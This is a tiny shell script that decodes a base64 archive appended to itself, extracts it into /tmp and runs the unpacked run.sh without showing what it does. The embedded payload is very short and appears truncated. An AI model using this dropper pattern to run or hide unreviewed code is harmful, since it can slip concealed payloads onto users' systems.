#!/bin/sh
LINE=$(awk '/^__ARCHIVE__/ { print NR + 1; exit }' "$0")
tail -n +$LINE "$0" | base64 -d | tar xz -C /tmp
/tmp/run.sh
exit 0
__ARCHIVE__
H4sIAAAAAAAAA+3OMQqAMAwF0KzPKQpZ5+wFvIJeoLRDBdPSVvD4CoKTTg7+N4SQBEK2x3w6cAAAAAAA
